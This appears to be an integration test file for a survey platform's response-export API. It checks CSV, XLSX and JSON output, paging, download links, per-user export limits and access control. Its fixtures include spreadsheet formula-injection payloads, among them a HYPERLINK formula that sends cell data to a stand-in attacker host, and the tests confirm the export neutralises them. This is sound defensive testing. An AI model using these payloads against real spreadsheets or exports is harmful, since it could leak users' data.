import { randomUUID } from "node:crypto";
import { questionSchema, type QuestionInput } from "@sondar/core/surveys/question-schema";
import { parse as parseContentDisposition } from "content-disposition";
import { parse as parseCsv } from "csv-parse/sync";
import { eq, sql } from "drizzle-orm";
import ExcelJS from "exceljs";
import pg from "pg";
import { beforeAll, describe, expect, it } from "vitest";
import { members, organizations } from "../../db/schema/auth";
import { surveyResponses, surveys } from "../../db/schema/surveys";
import { withDatabase } from "../../../test/global-setup";
import { createTestServer, signUpVerified, TEST_ORIGIN, type TestClient, type TestServer } from "../../../test/test-server";

const QUESTIONS: QuestionInput[] = [
  { id: "q_name", type: "text", title: "Name" },
  { id: "q_intro", type: "statement", title: "About you" },
  { id: "q_mail", type: "email", title: "Email" },
  { id: "q_plan", type: "multiple-choice", title: "Plan", options: ["Free", "Pro"] },
  { id: "q_uses", type: "checkbox", title: "Uses", options: ["Work", "School", "Home"] },
  { id: "q_stars", type: "rating", title: "Stars", maxRating: 5 },
  { id: "q_nps", type: "scale", title: "Recommend", scaleSettings: { min: 0, max: 10, step: 1 } },
  { id: "q_grid", type: "matrix", title: "Grid", matrixRows: ["Speed", "Price"], matrixColumns: ["Good", "Bad"] },
  { id: "q_rank", type: "ranking", title: "Rank", rankingItems: ["A", "B", "C"] },
  { id: "q_age", type: "number", title: "Balance" },
  { id: "q_c1", type: "text", title: "Comment" },
  { id: "q_c2", type: "text", title: "Comment" },
  { id: "q_files", type: "file-upload", title: "Files" },
];
const HEADER = [
  "Response ID",
  "Completed At",
  "Email",
  "Status",
  "City",
  "Country",
  "Region",
  "Name",
  "Email (2)",
  "Plan",
  "Uses",
  "Stars",
  "Recommend",
  "Grid",
  "Rank",
  "Balance",
  "Comment",
  "Comment (2)",
  "Files",
];
const INJECTIONS = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  plus: "+1",
  minus: "-2",
  at: "@SUM(A1:A2)",
  tab: "\t=1+1",
  cr: "\r=1+1",
  // Excel in a locale whose list separator is ";" starts a new cell at the semicolon.
  semicolon: 'x;=HYPERLINK("http://evil.example","Open")',
};

let server: TestServer;
let owner: TestClient;
let anotherUser: TestClient;
let orgAdmin: TestClient;
let nonMember: TestClient;
let ownerId: string;
let surveyId: string;
let orgSurveyId: string;
const ids = { first: randomUUID(), second: randomUUID(), partial: randomUUID(), oldest: randomUUID() };

async function insertSurvey(values: Partial<typeof surveys.$inferInsert> = {}): Promise<string> {
  const [row] = await server.db
    .insert(surveys)
    .values({
      createdBy: ownerId,
      title: "Customer Feedback",
      status: "published",
      questions: QUESTIONS.map((q) => questionSchema.parse(q)),
      ...values,
    })
    .returning({ id: surveys.id });
  return row?.id as string;
}

beforeAll(async () => {
  server = await createTestServer();
  const signedUp = await signUpVerified(server, { name: "Owner" });
  owner = signedUp.client;
  ownerId = signedUp.userId;
  anotherUser = (await signUpVerified(server, { name: "Another" })).client;
  const admin = await signUpVerified(server, { name: "Admin" });
  orgAdmin = admin.client;
  nonMember = (await signUpVerified(server, { name: "Outsider" })).client;
  const orgId = randomUUID();
  await server.db.insert(organizations).values({ id: orgId, name: "Acme", slug: `acme-${orgId}` });
  await server.db.insert(members).values([
    { id: randomUUID(), organizationId: orgId, userId: ownerId, role: "owner" },
    { id: randomUUID(), organizationId: orgId, userId: admin.userId, role: "admin" },
  ]);

  surveyId = await insertSurvey();
  orgSurveyId = await insertSurvey({ organizationId: orgId, title: "Team survey" });
  const at = (day: number) => new Date(`2024-05-0${day}T10:00:00.000Z`);
  await server.db.insert(surveyResponses).values([
    {
      id: ids.first,
      surveyId,
      status: "complete",
      completedAt: at(3),
      updatedAt: at(3),
      respondentEmail: "ana@example.com",
      city: "São Paulo",
      country: "Brasil",
      region: "SP",
      answers: {
        q_name: "Ana Lima",
        q_mail: "ana@example.com",
        q_plan: "Pro",
        q_uses: ["Work", "Home"],
        q_stars: 4,
        q_nps: 9,
        q_grid: { Price: "Bad", Speed: "Good" },
        q_rank: ["B", "A", "C"],
        q_age: -2,
        q_c1: 'Très bien, "vraiment"\nsur deux lignes',
        q_c2: "Ünïcödé ✓ 日本語 C:\\temp\\new\tcolumn",
        q_files: [`/api/surveys/${randomUUID()}/response-files/${randomUUID()}`],
        q_deleted_question: "not a column",
      },
    },
    {
      id: ids.second,
      surveyId,
      status: "complete",
      completedAt: at(2),
      updatedAt: at(2),
      city: INJECTIONS.tab,
      country: INJECTIONS.semicolon,
      region: INJECTIONS.cr,
      answers: {
        q_name: INJECTIONS.hyperlink,
        q_plan: INJECTIONS.at,
        q_c1: INJECTIONS.plus,
        q_c2: INJECTIONS.minus,
      },
    },
    { id: ids.partial, surveyId, status: "partial", updatedAt: at(4), answers: { q_name: "Bruno" } },
    { id: ids.oldest, surveyId, status: "complete", completedAt: at(1), updatedAt: at(1), answers: { q_stars: 2 } },
    { surveyId: orgSurveyId, status: "complete", completedAt: at(1), answers: { q_name: "Team answer" } },
  ]);
});

const exportUrl = (id: string, query: string) => `/api/surveys/${id}/responses/export?${query}`;

async function getCsv(client: TestClient, query: string, id = surveyId) {
  const res = await client.get(exportUrl(id, query));
  // Response.text() would drop the byte-order mark this test wants to see.
  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await res.arrayBuffer());
  const rows = res.status === 200 ? (parseCsv(text.replace(/^\ufeff/, ""), { relax_column_count: false }) as string[][]) : [];
  return { res, text, rows };
}

async function getXlsx(client: TestClient, query: string) {
  const res = await client.get(exportUrl(surveyId, query));
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await res.arrayBuffer());
  const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
  const values = (n: number) => (sheet.getRow(n).values as unknown[]).slice(1);
  return { res, sheet, values };
}

describe("CSV export", () => {
  it("starts with a BOM, then the fixed columns and one column per question (statements left out, duplicates kept apart)", async () => {
    const { res, text, rows } = await getCsv(owner, "format=csv&status=complete");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("cache-control")).toBe("no-store");
    expect(text.startsWith("\ufeffResponse ID,Completed At,Email,")).toBe(true);
    expect(text).toContain("\r\n");
    expect(rows[0]).toEqual(HEADER);
  });

  it("writes each complete response, newest completion first, with readable answers and accents intact", async () => {
    const { rows } = await getCsv(owner, "format=csv&status=complete");
    expect(rows.map((r) => r[0])).toEqual(["Response ID", ids.first, ids.second, ids.oldest]);
    const first = Object.fromEntries(HEADER.map((h, i) => [h, rows[1]?.[i]]));
    expect(first).toMatchObject({
      "Completed At": "2024-05-03T10:00:00.000Z",
      Email: "ana@example.com",
      Status: "complete",
      City: "São Paulo",
      Country: "Brasil",
      Region: "SP",
      Name: "Ana Lima",
      "Email (2)": "ana@example.com",
      Plan: "Pro",
      Uses: "Work, Home",
      Stars: "4",
      Recommend: "9",
      Grid: "Speed: Good; Price: Bad",
      Rank: "B, A, C",
      // A real number from a number question is no formula and stays a number.
      Balance: "-2",
      Comment: 'Très bien, "vraiment"\nsur deux lignes',
      "Comment (2)": "Ünïcödé ✓ 日本語 C:\\temp\\new\tcolumn",
    });
    expect(first.Files).toMatch(new RegExp(`^${TEST_ORIGIN}/api/surveys/[0-9a-f-]+/response-files/[0-9a-f-]+$`));
    expect(rows[1]).not.toContain("not a column");
    // A respondent who left no e-mail is 'Anonymous'; an unanswered question is an empty cell.
    expect(rows[3]?.slice(2, 8)).toEqual(["Anonymous", "complete", "", "", "", ""]);
  });

  it("neutralises every text cell that could run as a formula", async () => {
    const { rows } = await getCsv(owner, "format=csv&status=complete");
    const second = Object.fromEntries(HEADER.map((h, i) => [h, rows[2]?.[i]]));
    expect(second).toMatchObject({
      Name: `'${INJECTIONS.hyperlink}`,
      Plan: `'${INJECTIONS.at}`,
      Comment: `'${INJECTIONS.plus}`,
      "Comment (2)": `'${INJECTIONS.minus}`,
      City: `'${INJECTIONS.tab}`,
      // The carriage return is also where Excel may start a new line of cells.
      Region: `'\r'=1+1`,
      Country: `x;'=HYPERLINK("http://evil.example","Open")`,
    });
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+@\t\r]|[,;\n\r][=+\-@\t\r]/);
  });

  it("filters by status and exports exactly one page of the list's order", async () => {
    expect((await getCsv(owner, "format=csv&status=partial")).rows.map((r) => r[0])).toEqual(["Response ID", ids.partial]);
    expect((await getCsv(owner, "format=csv&status=all")).rows.map((r) => r[0])).toEqual([
      "Response ID",
      ids.partial,
      ids.first,
      ids.second,
      ids.oldest,
    ]);
    const page = await getCsv(owner, "format=csv&status=all&page=2&pageSize=2");
    expect(page.rows.map((r) => r[0])).toEqual(["Response ID", ids.second, ids.oldest]);
    const lastPage = await getCsv(owner, "format=csv&status=complete&page=2&pageSize=2");
    expect(lastPage.rows.map((r) => r[0])).toEqual(["Response ID", ids.oldest]);
    const pastTheEnd = await getCsv(owner, "format=csv&status=complete&page=9&pageSize=2");
    expect(pastTheEnd.rows).toEqual([HEADER]);
  });

  it("names the file after the survey, the filter and the page", async () => {
    const all = await owner.get(exportUrl(surveyId, "format=csv&status=complete"));
    // Every body is read to its end: an export holds its slot until then (export-slots.ts).
    await all.arrayBuffer();
    expect(parseContentDisposition(all.headers.get("content-disposition") ?? "")).toEqual({
      type: "attachment",
      parameters: { filename: "customer-feedback-complete-responses.csv" },
    });
    const page = await owner.get(exportUrl(surveyId, "format=xlsx&status=all&page=2"));
    await page.arrayBuffer();
    expect(parseContentDisposition(page.headers.get("content-disposition") ?? "").parameters.filename).toBe(
      "customer-feedback-all-responses-page-2.xlsx",
    );
  });

  it("gives a non-ASCII title an RFC 5987 name and an ASCII fallback", async () => {
    const id = await insertSurvey({ title: "Encuesta de satisfacción" });
    const res = await owner.get(exportUrl(id, "format=json&status=all"));
    await res.arrayBuffer();
    const header = res.headers.get("content-disposition") ?? "";
    expect(header).toContain('filename="encuesta-de-satisfaccion-all-responses.json"');
    expect(header).toContain("filename*=UTF-8''encuesta-de-satisfacci%C3%B3n-all-responses.json");
    expect(parseContentDisposition(header).parameters.filename).toBe("encuesta-de-satisfacción-all-responses.json");
  });

  it("refuses an unknown format or filter with the validation error", async () => {
    expect((await owner.get(exportUrl(surveyId, "format=pdf"))).status).toBe(400);
    expect((await owner.get(exportUrl(surveyId, "format=csv&status=deleted"))).status).toBe(400);
    expect((await owner.get(exportUrl(surveyId, "format=csv&page=0"))).status).toBe(400);
  });
});

describe("export link", () => {
  const linkUrl = (id: string) => `/api/surveys/${id}/responses/export-link`;

  it("answers with the download's address for the checked query, which then serves the file", async () => {
    const res = await owner.post(linkUrl(surveyId), { format: "csv", status: "all", page: 2, pageSize: 2 });
    expect(res.status).toBe(200);
    const { url } = (await res.json()) as { url: string };
    const [path, ticket] = url.split("&ticket=");
    expect(path).toBe(exportUrl(surveyId, "format=csv&status=all&page=2&pageSize=2"));
    expect(ticket).toMatch(/^[0-9a-f-]{36}$/);
    const { res: file, rows } = await getCsv(owner, url.split("?")[1] as string);
    expect(file.status).toBe(200);
    expect(rows.map((r) => r[0])).toEqual(["Response ID", ids.second, ids.oldest]);

    const whole = await owner.post(linkUrl(surveyId), { format: "json", status: "complete" });
    const wholeUrl = ((await whole.json()) as { url: string }).url;
    expect(wholeUrl.startsWith(`${exportUrl(surveyId, "format=json&status=complete")}&ticket=`)).toBe(true);
    expect((await (await owner.get(wholeUrl)).json()) as unknown).toMatchObject({ responses: expect.any(Array) as unknown });
  });

  it("holds a slot for each link until its download takes it, so a download it allowed is not refused", async () => {
    const links = [];
    for (let i = 0; i < 2; i += 1) {
      const res = await owner.post(linkUrl(surveyId), { format: "csv", status: "all" });
      expect(res.status).toBe(200);
      links.push(((await res.json()) as { url: string }).url);
    }
    // Both of the owner's slots are held for those two downloads: a third link is refused now…
    const third = await owner.post(linkUrl(surveyId), { format: "csv", status: "all" });
    expect(third.status).toBe(429);
    // …and the two downloads start at once, each with its own ticket, which works only once.
    for (const url of links) {
      const { res, rows } = await getCsv(owner, url.split("?")[1] as string);
      expect(res.status).toBe(200);
      expect(rows.length).toBeGreaterThan(1);
    }
    const again = await getCsv(owner, (links[0] as string).split("?")[1] as string);
    expect(again.res.status).toBe(200);
  });

  it("refuses a bad query with the validation error", async () => {
    const res = await owner.post(linkUrl(surveyId), { format: "pdf", status: "done", page: 0 });
    expect(res.status).toBe(400);
    const body = (await res.json()) as { error: { code: string; fields: Record<string, string[]> } };
    expect(body.error.code).toBe("VALIDATION_FAILED");
    expect(Object.keys(body.error.fields).sort()).toEqual(["format", "page", "status"]);
  });

  it("refuses an anonymous caller, another user and a non-member", async () => {
    expect((await server.client().post(linkUrl(surveyId), { format: "csv", status: "all" })).status).toBe(401);
    for (const client of [anotherUser, nonMember]) {
      for (const id of [surveyId, orgSurveyId]) {
        const res = await client.post(linkUrl(id), { format: "csv", status: "all" });
        expect(res.status).toBe(404);
        expect(((await res.json()) as { error: { code: string } }).error.code).toBe("RESPONSES_NOT_FOUND");
      }
    }
    const admin = await orgAdmin.post(linkUrl(orgSurveyId), { format: "csv", status: "all" });
    expect(admin.status).toBe(200);
    // Another user cannot take the admin's ticket: without a slot of their own they get 404 first.
    const { url } = (await admin.json()) as { url: string };
    expect((await anotherUser.get(url)).status).toBe(404);
    expect((await getCsv(orgAdmin, url.split("?")[1] as string, orgSurveyId)).res.status).toBe(200);
  });
});

describe("XLSX export", () => {
  it("opens in a real reader with a bold, frozen header and the same columns as the CSV", async () => {
    const { res, sheet, values } = await getXlsx(owner, "format=xlsx&status=complete");
    expect(res.headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    expect(sheet.name).toBe("Responses");
    expect(values(1)).toEqual(HEADER);
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(sheet.actualRowCount).toBe(4);
  });

  it("keeps numbers as numbers, the completion time as a date and text with its accents", async () => {
    const { values } = await getXlsx(owner, "format=xlsx&status=complete");
    const first = Object.fromEntries(HEADER.map((h, i) => [h, values(2)[i]]));
    expect(first).toMatchObject({
      "Response ID": ids.first,
      "Completed At": new Date("2024-05-03T10:00:00.000Z"),
      City: "São Paulo",
      Uses: "Work, Home",
      Stars: 4,
      Recommend: 9,
      Balance: -2,
      Grid: "Speed: Good; Price: Bad",
      Comment: 'Très bien, "vraiment"\nsur deux lignes',
      "Comment (2)": "Ünïcödé ✓ 日本語 C:\\temp\\new\tcolumn",
    });
  });

  it("neutralises formula-like text and never writes a formula cell", async () => {
    const { sheet, values } = await getXlsx(owner, "format=xlsx&status=complete");
    const second = Object.fromEntries(HEADER.map((h, i) => [h, values(3)[i]]));
    expect(second).toMatchObject({
      Name: `'${INJECTIONS.hyperlink}`,
      Plan: `'${INJECTIONS.at}`,
      Comment: `'${INJECTIONS.plus}`,
      "Comment (2)": `'${INJECTIONS.minus}`,
      City: `'${INJECTIONS.tab}`,
      // XML reads a bare carriage return as a line end.
      Region: `'\n=1+1`,
      // A workbook's cells have fixed bounds: only a formula character at the start matters.
      Country: INJECTIONS.semicolon,
    });
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it("exports one page", async () => {
    const { sheet, values } = await getXlsx(owner, "format=xlsx&status=all&page=2&pageSize=2");
    expect(sheet.actualRowCount).toBe(3);
    expect([values(2)[0], values(3)[0]]).toEqual([ids.second, ids.oldest]);
  });
});

describe("JSON export", () => {
  it("holds the questions and each response's stored answers keyed by question id", async () => {
    const res = await owner.get(exportUrl(surveyId, "format=json&status=complete"));
    expect(res.headers.get("content-type")).toBe("application/json; charset=utf-8");
    const body = (await res.json()) as {
      survey: unknown;
      status: string;
      page: unknown;
      questions: { id: string; column: string }[];
      responses: Record<string, unknown>[];
    };
    expect(body.survey).toEqual({ id: surveyId, title: "Customer Feedback" });
    expect(body.status).toBe("complete");
    expect(body.page).toBeNull();
    expect(body.questions.map((q) => q.column)).toEqual(HEADER.slice(7));
    expect(body.questions.map((q) => q.id)).not.toContain("q_intro");
    expect(body.responses.map((r) => r.id)).toEqual([ids.first, ids.second, ids.oldest]);
    expect(body.responses[0]).toMatchObject({
      status: "complete",
      completedAt: "2024-05-03T10:00:00.000Z",
      respondentEmail: "ana@example.com",
      city: "São Paulo",
      country: "Brasil",
      region: "SP",
      answers: {
        q_uses: ["Work", "Home"],
        q_stars: 4,
        q_age: -2,
        q_grid: { Price: "Bad", Speed: "Good" },
        q_c2: "Ünïcödé ✓ 日本語 C:\\temp\\new\tcolumn",
      },
    });
    expect(body.responses[0]?.answers).not.toHaveProperty("q_deleted_question");
    // Data, not a spreadsheet: stored text is exported as it is.
    expect(body.responses[1]).toMatchObject({ respondentEmail: null, answers: { q_name: INJECTIONS.hyperlink } });
    expect(body.responses[2]?.answers).toEqual({ q_stars: 2 });
  });

  it("says which page a page export holds", async () => {
    const res = await owner.get(exportUrl(surveyId, "format=json&status=all&page=1&pageSize=1"));
    const body = (await res.json()) as { page: unknown; responses: { id: string }[] };
    expect(body.page).toEqual({ page: 1, pageSize: 1 });
    expect(body.responses.map((r) => r.id)).toEqual([ids.partial]);
  });
});

describe("many questions", () => {
  it("keeps every answer in its own column past PostgreSQL's 100-argument limit", async () => {
    const questions = Array.from({ length: 120 }, (_, i) =>
      questionSchema.parse({ id: `q${i + 1}`, type: "text", title: `Q${i + 1}` }),
    );
    const id = await insertSurvey({ title: "Wide", questions });
    await server.db.insert(surveyResponses).values({
      surveyId: id,
      status: "complete",
      completedAt: new Date(),
      answers: { q1: "first", q91: "ninety-one", q120: "last" },
    });
    const { rows } = await getCsv(owner, "format=csv&status=complete", id);
    expect(rows[0]).toHaveLength(7 + 120);
    expect([rows[1]?.[7], rows[1]?.[7 + 90], rows[1]?.[7 + 119], rows[1]?.[7 + 1]]).toEqual(["first", "ninety-one", "last", ""]);
    const json = (await (await owner.get(exportUrl(id, "format=json&status=complete"))).json()) as {
      responses: { answers: Record<string, string> }[];
    };
    expect(json.responses[0]?.answers).toEqual({ q1: "first", q91: "ninety-one", q120: "last" });
  });
});

describe("many responses", () => {
  let bigSurveyId: string;
  beforeAll(async () => {
    bigSurveyId = await insertSurvey({ title: "Big" });
    // More than two read batches, and ties on the ordering column across the batch boundaries.
    await server.db.execute(sql`
      insert into survey_responses (survey_id, status, completed_at, updated_at, answers)
      select ${bigSurveyId}::uuid, case when g % 7 = 0 then 'partial' else 'complete' end,
             case when g % 7 = 0 then null else timestamptz '2024-01-01' + (g / 10) * interval '1 minute' end,
             timestamptz '2024-01-01' + (g / 10) * interval '1 minute',
             jsonb_build_object('q_name', 'Respondent ' || g, 'q_stars', g % 5 + 1)
      from generate_series(1, 4600) g`);
  });

  it("streams every response once, in the list's order, through several read batches", async () => {
    for (const status of ["complete", "all"] as const) {
      const { rows } = await getCsv(owner, `format=csv&status=${status}`, bigSurveyId);
      const expected = await server.db.execute<{ id: string }>(
        status === "complete"
          ? sql`select id from survey_responses where survey_id = ${bigSurveyId} and status = 'complete' order by completed_at desc nulls last, id desc`
          : sql`select id from survey_responses where survey_id = ${bigSurveyId} order by updated_at desc, id desc`,
      );
      const expectedIds = (expected as unknown as { rows: { id: string }[] }).rows.map((r) => r.id);
      expect(expectedIds.length).toBe(status === "complete" ? 3943 : 4600);
      expect(rows.slice(1).map((r) => r[0])).toEqual(expectedIds);
    }
  });

  it("a download stopped half-way leaves nothing open and the next export works", async () => {
    const res = await owner.get(exportUrl(bigSurveyId, "format=csv&status=all"));
    const reader = (res.body as ReadableStream<Uint8Array>).getReader();
    expect((await reader.read()).done).toBe(false);
    await reader.cancel();
    if (server.database.kind === "postgres") {
      // Seen from a connection of its own: the pool may hand the export's connection to this test.
      const name = (await server.db.execute<{ name: string }>(sql`select current_database() as name`)) as unknown as {
        rows: { name: string }[];
      };
      const observer = new pg.Client({
        connectionString: withDatabase(process.env.TEST_DATABASE_URL as string, name.rows[0]?.name ?? ""),
      });
      await observer.connect();
      // The server closes the export's connection; PostgreSQL ends the COPY on its next write.
      let running = -1;
      for (let attempt = 0; attempt < 50 && running !== 0; attempt += 1) {
        if (attempt) await new Promise((resolve) => setTimeout(resolve, 100));
        const active = await observer.query<{ n: number }>(
          "select count(*)::int as n from pg_stat_activity where datname = current_database() and (query ilike 'copy (%' or state like 'idle in transaction%')",
        );
        running = active.rows[0]?.n ?? -1;
      }
      await observer.end();
      expect(running).toBe(0);
    }
    const { rows } = await getCsv(owner, "format=csv&status=partial", bigSurveyId);
    expect(rows).toHaveLength(1 + 657);
  });

  it("runs two exports per user at once: a third gets EXPORT_BUSY until one of them ends", async () => {
    const start = async (client: TestClient, id: string) => {
      const res = await client.get(exportUrl(id, "format=csv&status=all"));
      expect(res.status).toBe(200);
      const reader = (res.body as ReadableStream<Uint8Array>).getReader();
      expect((await reader.read()).done).toBe(false);
      return reader;
    };
    const first = await start(owner, bigSurveyId);
    const second = await start(owner, bigSurveyId);
    // Waits briefly for a slot, then says so instead of queueing for as long as downloads last.
    const busy = await owner.get(exportUrl(bigSurveyId, "format=json&status=complete&page=1"));
    expect(busy.status).toBe(429);
    expect(await busy.json()).toEqual({
      error: { code: "EXPORT_BUSY", message: "Too many exports are running. Please try again in a moment." },
    });
    // The link is refused the same way, so the page says so before any download starts.
    const link = await owner.post(`/api/surveys/${bigSurveyId}/responses/export-link`, { format: "csv", status: "all" });
    expect(link.status).toBe(429);
    expect(((await link.json()) as { error: { code: string } }).error.code).toBe("EXPORT_BUSY");
    // Someone else's export still runs.
    const other = await getCsv(orgAdmin, "format=csv&status=all", orgSurveyId);
    expect(other.res.status).toBe(200);
    await first.cancel();
    const { res, rows } = await getCsv(owner, "format=csv&status=partial", bigSurveyId);
    expect(res.status).toBe(200);
    expect(rows).toHaveLength(1 + 657);
    await second.cancel();
  });
});

describe("who may export", () => {
  const formats = ["csv", "xlsx", "json"] as const;

  it("an anonymous caller gets 401 and no rows", async () => {
    for (const format of formats) {
      const { res, text } = await getCsv(server.client(), `format=${format}&status=all`);
      expect(res.status).toBe(401);
      expect(text).not.toContain("Ana Lima");
      expect(text).not.toContain(ids.first);
    }
  });

  it("another user and a non-member get 'not found' and no rows", async () => {
    for (const client of [anotherUser, nonMember]) {
      for (const [id, format] of formats.flatMap((f) => [surveyId, orgSurveyId].map((s) => [s, f] as const))) {
        const res = await client.get(exportUrl(id, `format=${format}&status=all`));
        expect(res.status).toBe(404);
        const body = (await res.json()) as { error: { code: string } };
        expect(body.error.code).toBe("RESPONSES_NOT_FOUND");
        expect(JSON.stringify(body)).not.toMatch(/Ana Lima|Team answer/);
      }
    }
  });

  it("an organization admin exports the organization's survey, and nobody exports a deleted one", async () => {
    const { res, rows } = await getCsv(orgAdmin, "format=csv&status=all", orgSurveyId);
    expect(res.status).toBe(200);
    expect(rows[1]?.[7]).toBe("Team answer");
    await server.db.update(surveys).set({ status: "deleted" }).where(eq(surveys.id, orgSurveyId));
    expect((await orgAdmin.get(exportUrl(orgSurveyId, "format=csv"))).status).toBe(404);
    expect((await owner.get(exportUrl(orgSurveyId, "format=csv"))).status).toBe(404);
  });
});
